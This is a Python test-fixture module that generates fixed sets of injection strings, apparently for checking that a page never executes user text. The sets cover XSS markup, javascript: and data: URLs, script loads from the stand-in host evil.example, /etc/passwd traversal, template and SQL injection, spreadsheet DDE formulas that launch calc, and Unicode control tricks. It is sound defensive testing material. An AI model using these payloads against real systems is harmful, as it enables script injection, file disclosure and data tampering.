"""Texts that would do something if anything took them for more than text: markup, addresses, templates, formulas.

Gives any number of different ones, always the same. Whatever runs calls `pwn()`, which the watching page counts.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

_MARKUP = r"""
<script>pwn()</script>
<ScRiPt>pwn()</sCrIpT>
<script src=//evil.example/x.js></script>
<script type=module>pwn()</script>
<scr<script>ipt>pwn()</scr</script>ipt>
</script><script>pwn()//
<img src=x onerror=pwn()>
<img/src=x/onerror=pwn()>
<img src="x" onerror="pwn()">
<img src=x onerror=pwn() x
<svg onload=pwn()>
<svg><script>pwn()</script></svg>
<svg><animate onbegin=pwn() attributeName=x dur=1s>
<svg><a xlink:href=javascript:pwn()><text y=9>x
<svg><use href=data:image/svg+xml,x#x>
<svg><foreignObject><img src=x onerror=pwn()>
<math><mtext><img src=x onerror=pwn()>
<iframe srcdoc='<script>parent.pwn()</script>'>
<iframe src=javascript:pwn()>
<object data=javascript:pwn()>
<embed src=javascript:pwn()>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content='0;url=//evil.example'>
<style>*{background:url(//evil.example)}</style>
<style>@import '//evil.example/x.css';</style>
<p style=background:url(//evil.example)>
<b style=color:red>x
<body onload=pwn()>
<details open ontoggle=pwn()>
<video><source onerror=pwn()>
<audio src=x onerror=pwn()>
<input autofocus onfocus=pwn()>
<select autofocus onfocus=pwn()>
<textarea autofocus onfocus=pwn()>
<marquee onstart=pwn()>
<a href=javascript:pwn()>x</a>
<form action=javascript:pwn()><button>x
<button formaction=javascript:pwn()>x
<dialog open onclose=pwn()>
<template><script>pwn()</script></template>
<noscript><p title='</noscript><img src=x onerror=pwn()>'>
</textarea><img src=x onerror=pwn()>
</title><img src=x onerror=pwn()>
</style><img src=x onerror=pwn()>
<!--><img src=x onerror=pwn()>-->
]]><script>pwn()</script>
<![CDATA[<script>pwn()</script>]]>
<?xml version='1.0'?><x/>
<xss id=x tabindex=1 onfocus=pwn()>
" onmouseover=pwn() x="
' onfocus=pwn() autofocus x='
` onerror=pwn() `
"><img src=x onerror=pwn()>
'><svg onload=pwn()>
" autofocus onfocus="pwn()
x' onerror='pwn()
\"><script>pwn()</script>
""".strip("\n").split("\n")
_ADDRESSES = r"""
javascript:pwn()
JaVaScRiPt:pwn()
javascript://%0apwn()
data:text/html,<script>pwn()</script>
data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==
vbscript:pwn()
//evil.example/x
https://evil.example/#x
../../../../etc/passwd
..%2f..%2fetc%2fpasswd
file:///etc/passwd
?x=1#<script>pwn()</script>
/static/../x
""".strip("\n").split("\n")
_TEMPLATES = r"""
{{constructor.constructor('pwn()')()}}
${pwn()}
#{pwn()}
<%= pwn() %>
{{7*7}}
{{site}}
{{detail}}
{n}
{name}
{time}
%s%s%n
{0.__class__}
$&$1$`
\u003cscript\u003epwn()\u003c/script\u003e
\x3cimg src=x>
&lt;script&gt;pwn()&lt;/script&gt;
&#60;img src=x onerror=pwn()&#62;
%3Cscript%3Epwn()%3C/script%3E
+ADw-script+AD4-pwn()+ADw-/script+AD4-
';pwn();//
";pwn();//
`;pwn();//
__proto__
constructor
toString
'; DROP TABLE scan; --
" OR ""="
NEAR(a b)
"unbalanced
a* OR b*
null
undefined
NaN
true
0
[]
""".strip("\n").split("\n")
_FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("//evil.example")', "\t=1+1", "\r=1+1",
    " =1+1", "\uff1d1+1", "x;=1+1;y", 'x;"=1+1', "x\n=1+1", '"=1+1', '=DDE("cmd";"/C calc";"x")', "\u200b=1+1",
)  # fmt: skip
_SIGNS = (
    "\u202egnp.exe", "\u2066x\u2069", "\u200f\u200e", "\u200b\ufeff", "a\u0301\u0323" * 20, "\u2028pwn()\u2029",
    "\x00<script>pwn()</script>", "\x1b[31mred", "\x07\x08", "\U0001f600" * 10, "\uffff", "\U000e0041tag",
    "\uff21\uff1cscript\uff1e", "\u0130\u0131", "java\tscript:pwn()",
    *(sign * 100 for sign in ("xy", "<", "&", '"', "\\")),
)  # fmt: skip
PLAIN = tuple(itertools.chain(_MARKUP, _ADDRESSES, _TEMPLATES, _FORMULAS, _SIGNS))
AROUND = (
    "{}", "x {}", "{} x", "\u202e{}", '"{}"', "<b>{}</b>", "{}<!--", "\x00{}", "--> {}", "\u200b{}", "\u2028{}",
    "({})", "{}\n{}",
)  # fmt: skip


def script_strings(count: int) -> tuple[str, ...]:
    """So many different texts: first all of them plain, then each within others."""
    return tuple(itertools.islice(_all(), count))


def _all() -> Iterator[str]:
    seen: set[str] = set()
    for around in AROUND:
        for text in PLAIN:
            one = around.replace("{}", text)
            if one not in seen:
                seen.add(one)
                yield one
